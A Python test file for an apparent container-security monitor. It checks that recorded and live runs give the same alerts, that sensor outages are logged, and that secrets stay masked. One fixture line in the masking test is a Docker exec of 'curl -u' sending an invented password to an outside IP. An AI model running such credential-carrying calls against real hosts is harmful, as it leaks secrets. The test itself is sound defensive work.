"""Holds that what is live and what was recorded agree, and that a recording tells no secrets."""

import json
import tomllib
from collections.abc import Sequence
from functools import partial
from pathlib import Path

import msgspec
import pytest
from watch_runs import ATTACK, BEGIN, NS, Doing, Run, docker, engine_of, handing_in

from made_events import AN0691
from tidewaiter.alert import Alert, ContainerShown, Incident, Output
from tidewaiter.edge.collector import Condition, Desk, Observation
from tidewaiter.edge.hunt import Hunt
from tidewaiter.edge.read import recogniser_of
from tidewaiter.edge.reader import Reader, ReadOptions
from tidewaiter.edge.recording import Recording
from tidewaiter.edge.resume import Resumed, resume
from tidewaiter.edge.state import StateFolder
from tidewaiter.engine import Engine
from tidewaiter.policy import DEFAULT_POLICY, TrustPolicy, load_policy
from tidewaiter.sources import RecordError, sources

SCENARIOS = Path(__file__).resolve().parents[1] / "scenarios"
FOLDERS = sorted(path.parent for path in SCENARIOS.glob("*/expect.toml"))


def hunted(path: Path, policy: TrustPolicy = DEFAULT_POLICY, *, quick: bool = True) -> list[Output]:
    """The final records of a recording."""
    engine = Engine(policy, AN0691)
    run = Hunt(engine, [str(path)], ReadOptions(), quick=quick)
    run.run()
    assert not run.problems
    return list(engine.finish(containers=True))


def unnumbered(outputs: Sequence[Output]) -> list[Output]:
    """Final records that stand, without their numbers."""
    alerts = (output for output in outputs if isinstance(output, Alert | Incident) and output.final)
    shown: list[Output] = [
        msgspec.structs.replace(alert, revision=0) for alert in alerts if alert.verdict != "withdrawn"
    ]
    return [*shown, *(output for output in outputs if isinstance(output, ContainerShown))]


def records_of(folder: Path) -> list[tuple[int, Observation]]:
    """All records of a scenario with their times, in order of time."""
    found: list[tuple[int, Observation]] = []
    for path in sorted(path for path in folder.iterdir() if path.is_file()):
        if path.name in ("policy.yaml", "expect.toml"):
            continue
        reader = Reader(path.name, recogniser_of(), ReadOptions())
        for batch in (reader.feed(path.read_bytes()), reader.finish()):
            for index, (source, record) in enumerate(zip(batch.sources, batch.records, strict=True)):
                try:
                    events = list(sources()[source].decode(record, batch.where(index)))
                except RecordError:
                    events = []
                times = [event.time_ns for event in events if event.time_ns is not None]
                found.append((min(times, default=0), Observation(source, path.name, record)))
    return sorted(found, key=lambda entry: entry[0])


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_hunting_a_recording_gives_the_final_records_of_the_run(folder: Path, tmp_path: Path) -> None:
    """Ids and evidence included, whatever the producers."""
    policy = load_policy((folder / "policy.yaml").read_text(), "policy.yaml")
    told = tomllib.loads((folder / "expect.toml").read_text()).get("options", {})
    place = {"cluster": told.get("cluster", "default"), "node": told.get("node", "n1")}
    records = records_of(folder)
    path = tmp_path / "rec.jsonl"
    recording = Recording(str(path))
    run = Run(
        handing_in([observation for _, observation in records]),
        resumed=Resumed(engine_of(None, policy), [], {}),
        recording=recording,
        # A clock that is behind: not so far that what comes is rejected, far enough that no tick gives up what waits.
        time_ns=records[-1][0] - 23 * 3600 * NS,
        **place,
    )
    recording.close()
    assert unnumbered(hunted(path, policy)) == unnumbered(hunted(path, policy, quick=False)) == unnumbered(run.outputs)
    assert path.read_bytes().count(b"\n") == len(records)


def test_conditions_are_recorded_where_they_make_blind(tmp_path: Path) -> None:
    """As records of the sensor, between the others."""

    def do(desk: Desk) -> None:
        desk.tell(Condition("docker", "waiting", "no socket", ("images", "containers")))
        desk.observe(ATTACK[0])
        desk.tell(Condition("docker", "ready", "attached"))

    recording = Recording(str(tmp_path / "rec.jsonl"))
    Run(Doing(do), recording=recording)
    lines = [json.loads(line) for line in (tmp_path / "rec.jsonl").read_bytes().splitlines()]
    assert [(line["source"], line["record"].get("sight"), line["record"].get("why")) for line in lines] == [
        ("sensor", "images", "no socket"),
        ("sensor", "containers", "no socket"),
        ("docker_events", None, None),
        ("sensor", "images", None),
        ("sensor", "containers", None),
    ]
    assert {line["record"]["kind"] for line in lines if line["source"] == "sensor"} == {"sensor_condition"}
    assert {line["record"]["time_ns"] for line in lines if line["source"] == "sensor"} == {BEGIN * NS}
    recording.close()


def test_a_recording_that_fails_is_told_and_watching_goes_on(tmp_path: Path) -> None:
    """/dev/full takes nothing."""
    recording = Recording("/dev/full")
    run = Run(handing_in(ATTACK), recording=recording)
    assert [alert.verdict for alert in run.alerts] == ["alert", "alert"]
    assert recording.lost == 3
    recording.close()


def test_secrets_reach_neither_recording_nor_journal_nor_alert(tmp_path: Path) -> None:
    """Unless they are asked for."""
    secret = "hunter2-0815"  # noqa: S105 - invented
    story = [*ATTACK[:2], docker(f"exec_create: curl -u me:{secret} http://203.0.113.7/x", 5)]
    for keeps, name in ((False, "masked"), (True, "kept")):
        recording, folder = Recording(str(tmp_path / f"{name}.jsonl")), StateFolder(tmp_path / name)
        start = partial(Engine, DEFAULT_POLICY, AN0691, keep_arguments=keeps, live=True)
        resumed = resume(folder, lambda state, start=start: start(state=state))  # type: ignore[misc]  # bound now
        run = Run(handing_in(story), resumed=resumed, recording=recording, state=folder, keep_arguments=keeps)
        folder.close()
        recording.close()
        written = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if name in str(path) and path.is_file())
        assert (secret.encode() in written) is keeps
        assert (secret.encode() in b"".join(map(msgspec.json.encode, run.alerts))) is keeps
